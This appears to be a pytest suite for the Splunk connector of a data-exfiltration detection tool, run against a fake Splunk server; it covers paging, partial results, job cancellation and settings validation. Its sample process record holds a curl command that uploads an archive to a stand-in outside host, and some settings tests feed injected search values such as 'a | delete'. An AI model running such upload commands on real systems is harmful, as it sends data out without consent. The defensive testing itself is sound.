"""Splunk against a server that answers as its documentation says."""

import asyncio
import json
from typing import Any

import pytest

from exfilwatch.errors import AuthError, ConfigError, PartialResult, RateLimited, SourceError, Unreachable
from exfilwatch.siem.registry import open_siem
from exfilwatch.siem.siem import Ask, Clock, Near, Place, Siem
from exfilwatch.siem.splunk import Splunk
from exfilwatch.siem.splunk_settings import SplunkSettings

from .fake_splunk import TOKEN, FakeSplunk
from .fetching import Naps, S, all_of, events, fetched, run
from .loopback import Answer, Request, answer_json

T0 = 1_773_306_842
CURL = "C:\\Windows\\System32\\curl.exe"


def record(second: float = T0, indexed: int | None = None, **fields: object) -> dict[str, object]:
    return {
        "_time": second,
        "_indextime": int(second) + 3 if indexed is None else indexed,
        "_cd": "3:41",
        "_raw": "<Event>...</Event>",
        "host": "collector",
        "index": "windows",
        "source": "XmlWinEventLog:Microsoft-Windows-Sysmon/Operational",
        "sourcetype": "XmlWinEventLog",
        "EventCode": "1",
        "Computer": "WS1.corp.example",
        "Image": CURL,
        "CommandLine": "curl.exe -T a.zip https://x.example/",
        **fields,
    }


def client(server: FakeSplunk, sleep: Naps | None = None, **settings: Any) -> Splunk:
    made = {"url": server.url, "token": TOKEN, "indexes": ("windows",), **settings}
    return Splunk("corp", SplunkSettings.model_validate(made), sleep=sleep or Naps())


@pytest.fixture
def splunk():
    with FakeSplunk() as server:
        yield server


both = pytest.mark.parametrize("stream", [False, True], ids=["job", "export"])


@both
def test_the_records_of_an_interval_become_events(splunk, stream):
    splunk.records = [record(T0 + n / 4, T0 + n) for n in range(10)]
    (event,) = events(fetched(client(splunk, stream=stream), (T0 + 4) * S, (T0 + 5) * S))
    assert event.fields["CommandLine"] == "curl.exe -T a.zip https://x.example/"
    assert (event.category, event.host) == ("process_creation", "WS1.corp.example")
    assert (event.time, event.ingest_time) == ((T0 + 1) * S, (T0 + 4) * S)


@both
@pytest.mark.parametrize(("clock", "step"), [(Clock.INGEST, S), (Clock.EVENT, S // 8)])
def test_intervals_that_meet_share_nothing_and_leave_nothing_out(splunk, stream, clock, step):
    splunk.records = [record(T0 + n / 16, T0 + n, n=n) for n in range(16)]
    got = []
    for start in range(T0 * S, T0 * S + 16 * step, step):
        got += fetched(client(splunk, stream=stream), start, start + step, clock=clock)
    assert sorted(int(each["n"]) for each in got) == list(range(16))


def test_events_of_any_age_come_by_the_time_they_were_indexed(splunk):
    splunk.records = [record(0, T0), record(T0 + 400 * 86_400, T0)]
    assert len(fetched(client(splunk), T0 * S, (T0 + 1) * S)) == 2


def test_a_reach_bounds_what_splunk_has_to_look_through(splunk):
    splunk.records = [record(T0 - 90_000, T0), record(T0 - 80_000, T0)]
    assert len(fetched(client(splunk, reach="1d"), T0 * S, (T0 + 1) * S)) == 1
    assert splunk.requests[0].form["earliest_time"] == f"{T0 - 86_400}.000000"


@both
def test_an_empty_interval_has_no_records(splunk, stream):
    assert fetched(client(splunk, stream=stream), T0 * S, (T0 + 1) * S) == []


def test_results_come_page_by_page(splunk):
    splunk.records = [record(n=n) for n in range(25)]
    splunk.maxresultrows = 7  # less than is asked for
    got = fetched(client(splunk, page=10))
    assert sorted(int(each["n"]) for each in got) == list(range(25))
    asked = [request.query["offset"] for request in splunk.requests if request.path.endswith("/results")]
    assert asked == ["0", "7", "14", "21"]


def test_a_job_is_asked_for_at_growing_intervals_until_it_is_done(splunk):
    splunk.records, splunk.looks_until_done, naps = [record()], 20, Naps()
    assert len(fetched(client(splunk, naps))) == 1
    assert naps.naps == sorted(naps.naps)
    assert naps.naps[-1] == 2.0


def test_a_search_that_takes_too_long_is_to_be_made_smaller(splunk):
    splunk.looks_until_done = 10**6
    with pytest.raises(PartialResult, match="more than 60 s"):
        fetched(client(splunk, patience="60s"))
    assert splunk.jobs == {}


def test_a_search_that_does_not_get_its_turn_is_to_be_asked_later(splunk):
    splunk.looks_until_done, splunk.state = 10**6, {"dispatchState": "QUEUED"}
    with pytest.raises(RateLimited, match="its turn"):
        fetched(client(splunk, patience="60s"))


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("WARN", "Search auto-finalized after time limit (30 seconds) reached."),
        ("INFO", "Search auto-finalized after disk usage limit (100MB) reached."),
        ("WARN", "Unable to distribute to peer named idx2 at uri=https://10.0.0.2:8089 because peer has status=Down."),
        ("WARN", "Search results might be incomplete: the search process on the peer idx2 ended prematurely."),
        ("ERROR", "Timed out waiting for peer idx2. Search results might be incomplete!"),
        ("ERROR", "Events might be missing for some other reason"),
        ("FATAL", "Error in 'lookup' command"),
    ],
)
@pytest.mark.parametrize("where", ["messages", "page_messages"])
def test_a_message_of_missing_results_makes_them_partial(splunk, kind, text, where):
    splunk.records = [record()]
    setattr(splunk, where, [("INFO", "fine"), (kind, text)])
    with pytest.raises(PartialResult, match="may be missing") as error:
        fetched(client(splunk))
    assert text in str(error.value)
    assert len(fetched(client(splunk, ignore_messages=(text.upper(),)))) == 1


@both
def test_messages_that_speak_of_other_things_do_not_matter(splunk, stream):
    splunk.records = [record()]
    splunk.messages = [
        ("INFO", "Your timerange was substituted based on your search string"),
        ("WARN", "Events may not be returned in sub-second order due to search memory limits."),
        ("ERROR", "Could not load lookup=LOOKUP-eventcode"),
    ]
    assert len(fetched(client(splunk, stream=stream))) == 1


def test_an_export_says_so_too(splunk):
    splunk.messages = [("ERROR", "Unable to distribute to peer named idx2")]
    with pytest.raises(PartialResult, match="idx2"):
        fetched(client(splunk, stream=True))


@pytest.mark.parametrize(
    ("state", "expected", "said"),
    [
        ({"isFinalized": True}, PartialResult, "finalized"),
        ({"eventCount": 2}, PartialResult, "of which 1 are kept"),
        ({"resultCount": 2}, PartialResult, "from 1, got 0"),
        ({"isZombie": True}, Unreachable, "got lost 3 times"),
        ({"isFailed": True, "messages": [{"type": "FATAL", "text": "no such macro"}]}, SourceError, "no such macro"),
        ({"dispatchState": "FAILED", "messages": []}, SourceError, "no reason given"),
        ({"isFailed": True, "messages": [{"type": "FATAL", "text": "peer idx2 is down"}]}, PartialResult, "idx2"),
        ({"isFailed": True, "messages": [{"type": "FATAL", "text": "disk usage quota"}]}, RateLimited, "quota"),
    ],
)
def test_a_job_that_did_not_end_well_is_an_error(splunk, state, expected, said):
    splunk.records, splunk.state = [record()], state
    with pytest.raises(expected, match=said) as error:
        fetched(client(splunk))
    assert type(error.value) is expected
    assert splunk.jobs == {}


def test_more_results_than_are_kept_are_partial(splunk):
    splunk.records, splunk.max_count = [record(n=n) for n in range(10)], 5
    with pytest.raises(PartialResult, match="10 events, of which 5"):
        fetched(client(splunk))
    with pytest.raises(PartialResult, match="10 events, of which 3"):
        fetched(client(splunk, cap=3))
    assert len(fetched(client(splunk, stream=True))) == 10


def test_a_job_that_gets_lost_is_started_again(splunk):
    splunk.records, splunk.looks_until_done, splunk.lose = [record()], 3, 2
    assert len(fetched(client(splunk))) == 1
    assert len(splunk.searches) == 3


def test_a_job_that_keeps_getting_lost_is_given_up(splunk):
    splunk.looks_until_done, splunk.lose = 3, 10**6
    with pytest.raises(Unreachable, match="got lost 3 times"):
        fetched(client(splunk))


def test_a_full_quota_is_waited_for_and_then_said(splunk):
    splunk.quota, naps = 0, Naps()
    with pytest.raises(RateLimited, match="role quota"):
        fetched(client(splunk, naps))
    assert len(naps.naps) == 4


def test_a_job_is_cancelled_when_nobody_reads_on(splunk):
    splunk.records = [record(n=n) for n in range(10)]
    siem = client(splunk, page=2)

    async def first() -> int:
        batches = siem.fetch(Ask(Clock.INGEST))
        batch = await anext(batches)
        assert len(splunk.jobs) == 1
        await batches.aclose()  # type: ignore[attr-defined]
        return len(batch)

    assert run(siem, first()) == 2
    assert splunk.jobs == {}


def test_a_job_is_cancelled_when_its_reader_is(splunk):
    splunk.looks_until_done = 10**6
    looked = asyncio.Event()

    async def nap(_seconds: float) -> None:
        looked.set()
        await asyncio.Event().wait()

    siem = Splunk("corp", client(splunk).settings, sleep=nap)  # type: ignore[arg-type]

    async def cancelled() -> None:
        reading = asyncio.create_task(all_of(siem, Ask(Clock.INGEST)))
        await looked.wait()
        reading.cancel()
        with pytest.raises(asyncio.CancelledError):
            await reading

    run(siem, cancelled())
    assert splunk.jobs == {}
    assert splunk.requests[-1].form["action"] == "cancel"


def test_searches_that_run_at_once_are_bounded_but_not_those_that_are_read(splunk):
    splunk.records, splunk.quota, splunk.looks_until_done = [record(n=n) for n in range(4)], 1, 3
    siem = client(splunk, at_once=1, page=2)

    async def nested() -> int:
        count = 0
        async for batch in siem.fetch(Ask(Clock.INGEST)):
            count += len(batch) + len(await all_of(siem, Ask(Clock.INGEST)))
        return count

    assert run(siem, nested()) == 4 + 2 * 4


def test_wrong_credentials_are_told_without_them(splunk):
    with pytest.raises(AuthError, match=r"call not properly authenticated.*siem\.corp") as error:
        fetched(client(splunk, token="wrong-and-secret"))
    assert "secret" not in str(error.value)


def test_a_search_that_splunk_does_not_take_is_told_in_its_words(splunk):
    splunk._create = lambda _form: answer_json({"messages": [{"type": "FATAL", "text": "Unbalanced quotes."}]}, 400)
    with pytest.raises(SourceError, match="answered 400: Unbalanced quotes"):
        fetched(client(splunk))


PAGE = b'{"preview":false,"init_offset":0,"messages":[],"results":[{"_raw":"x"}]}'
BODIES = {
    "a proxy's page": Answer(200, b"<html><body>Sign in</body></html>", {"Content-Type": "text/html"}),
    "nothing": Answer(200, b""),
    "cut off": Answer(200, PAGE[:40]),
    "another type": Answer(200, b"[1, 2]"),
    "no text": Answer(200, b"\xff\xfe\x00"),
    "nested without end": Answer(200, b'{"entry":' + b"[" * 100_000),
    "other members": Answer(200, b'{"entry":[{"content":{"isDone":"maybe"}}],"results":7}'),
    "gzip that is none": Answer(200, b"hello", {"Content-Encoding": "gzip"}),
    "an error without a reason": Answer(500, b"<response/>"),
    "a redirect": Answer(302, b"", {"Location": "https://elsewhere.example/"}),
}


WHERE = {
    "create": ("POST", "/jobs"),
    "state": ("GET", ""),
    "results": ("GET", "/results"),
    "export": ("POST", "/export"),
}


@pytest.mark.parametrize("body", BODIES)
@pytest.mark.parametrize("where", WHERE)
def test_what_is_no_answer_of_splunk_is_an_error_and_no_crash(splunk, where, body):
    splunk.records = [record()]
    method, end = WHERE[where]
    usual = splunk.answer

    def answer(request: Request) -> Answer:
        hit = request.method == method and request.path.endswith(end)
        return BODIES[body] if hit and (where != "state" or "/v2/" not in request.path) else usual(request)

    splunk.answer = answer
    if where == "create" and BODIES[body].status == 200:
        return  # what is created is known by the id that we gave it
    with pytest.raises(SourceError) as error:
        fetched(client(splunk, stream=where == "export"))
    assert TOKEN not in str(error.value)
    assert "Sign in" not in str(error.value)


def broken(answer: Answer, **how: Any) -> Answer:
    return Answer(answer.status, answer.body, answer.headers, **how)


def test_an_export_that_breaks_off_is_unreachable(splunk):
    splunk.records = [record(n=n) for n in range(100)]
    usual = splunk._export
    splunk._export = lambda form: broken(usual(form), chunked=512, cut=20_000)
    siem, got = client(splunk, stream=True, page=5), []

    async def read() -> None:
        async for batch in siem.fetch(Ask(Clock.INGEST)):
            got.extend(batch)

    with pytest.raises(Unreachable):
        run(siem, read())
    assert 0 < len(got) < 100


def test_an_export_without_its_last_row_is_partial(splunk):
    splunk.records = [record(n=n) for n in range(3)]
    usual = splunk._export
    splunk._export = lambda form: Answer(200, b"\n".join(usual(form).body.splitlines()[:2]))
    with pytest.raises(PartialResult, match="last row"):
        fetched(client(splunk, stream=True))


def test_a_page_that_comes_twice_is_not_taken_for_the_next(splunk):
    splunk.records = [record(n=n) for n in range(4)]
    usual = splunk._results
    splunk._results = lambda job, query: usual(job, {**query, "offset": "0"})
    with pytest.raises(PartialResult, match="asked for results from 2"):
        fetched(client(splunk, page=2))


def test_places_are_the_indexes_and_what_is_wrong_with_them(splunk):
    splunk.now = T0 + 100.0
    splunk.records = [record(), record(T0 + 5), record(index="win_dc"), record(T0 - 40 * 86_400, index="old")]
    siem = client(splunk, indexes=("windows", "win_*", "old"))
    splunk.selects = lambda _search, _record: True
    places = run(siem, siem.places())
    assert places[0] == Place("windows", 2, (T0 + 5) * S)
    assert [place.name for place in places if place.problem] == ["win_*", "old"]
    assert "srchIndexesAllowed" in places[-1].problem


def test_its_clock_is_splunks(splunk):
    splunk.now = T0 + 0.7
    siem = client(splunk)
    assert run(siem, siem.now()) == T0 * S


def test_user_and_password_do_as_well_as_a_token(splunk):
    splunk.answer = lambda request: answer_json({"seen": request.headers["authorization"]}, 400)
    siem = client(splunk, token=None, user="poller", password="hunter2")
    with pytest.raises(SourceError) as error:
        run(siem, siem.now())
    assert "hunter2" not in str(error.value)
    assert splunk.requests[0].headers["authorization"].startswith("Basic ")


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"token": None}, "give token, or user and password"),
        ({"user": "a", "password": "b"}, "give token, or user and password"),
        ({"token": "two\nlines"}, "token: has characters"),
        ({"indexes": []}, "indexes"),
        ({"search": "a | delete"}, "search: give a condition"),
        ({"search": 'a "b'}, "search: give a condition"),
        ({"fields": ["a | delete"]}, "fields: give names"),
        ({"page": 60_000}, "page"),
        ({"index": "main"}, "index: there is no such setting"),
    ],
)
def test_settings_that_are_wrong_are_told_by_name(change, said):
    configured = {
        "kind": "splunk",
        "url": "https://splunk.example:8089",
        "token": "s3cr3t",
        "indexes": ["main"],
        **change,
    }
    with pytest.raises(ConfigError, match=said) as error:
        open_siem("corp", configured)
    assert "s3cr3t" not in str(error.value)


def test_it_is_a_siem_and_lists_may_have_commas():
    configured = {"kind": "splunk", "url": "https://splunk.example:8089", "token": "s3cr3t", "indexes": "main, win_*"}
    siem = open_siem("corp", configured)
    assert isinstance(siem, Siem)
    assert siem.settings.indexes == ("main", "win_*")  # type: ignore[attr-defined]
    assert "s3cr3t" not in repr(siem.settings)
    asyncio.run(siem.close())


def test_rules_are_asked_for_as_pushdown_says(splunk, monkeypatch):
    monkeypatch.setattr("exfilwatch.siem.queries.splunk.condition", lambda rules: f"c={len(rules)}")
    monkeypatch.setattr("exfilwatch.siem.queries.splunk.score", lambda _rule: "| where s>5")
    rules: Any = ("one", "two")
    expected = {"off": [""], "candidates": ["| where c=2 "], "score": ["| where c=1 | where s>5 "] * 2}
    for pushdown, selections in expected.items():
        splunk.searches.clear()
        fetched(client(splunk, pushdown=pushdown), rules=rules)
        assert splunk.searches == [
            f'search (index="windows") {each}| fields *, _raw, _time, _indextime, _cd, host, source, sourcetype, index'
            for each in selections
        ]


def test_the_query_is_what_a_person_would_paste():
    settings = {
        "url": "https://s.example",
        "token": "t",
        "indexes": ("a", "b"),
        "sourcetypes": ("xml",),
        "fields": ("_x",),
    }
    siem = Splunk("corp", SplunkSettings.model_validate({**settings, "search": "host=srv*"}))
    assert siem.query([]).startswith('search (index="a" OR index="b") (sourcetype="xml") (host=srv*) | where ')


def test_a_near_search_is_bounded_by_its_spans(splunk):
    near = (Near("WS1", T0 * S, (T0 + 60) * S), Near("WS2", (T0 + 9) * S, (T0 + 90) * S))
    fetched(client(splunk), near=near)
    form = splunk.requests[0].form
    assert (form["earliest_time"], form["latest_time"]) == (f"{T0}.000000", f"{T0 + 90}.001000")
    assert json.dumps("ws1") in form["search"]
